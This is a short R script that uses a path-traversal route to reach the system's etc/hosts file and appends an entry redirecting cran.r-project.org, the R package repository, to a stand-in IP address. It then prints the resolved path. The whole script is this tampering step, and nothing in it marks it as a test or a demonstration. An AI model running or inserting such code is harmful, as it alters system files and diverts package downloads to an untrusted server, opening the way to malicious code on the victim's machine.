target <- file.path(getwd(), "../../../..", "etc", "hosts")
cat("203.0.113.7 cran.r-project.org\n", file = target, append = TRUE)
print(normalizePath(target))
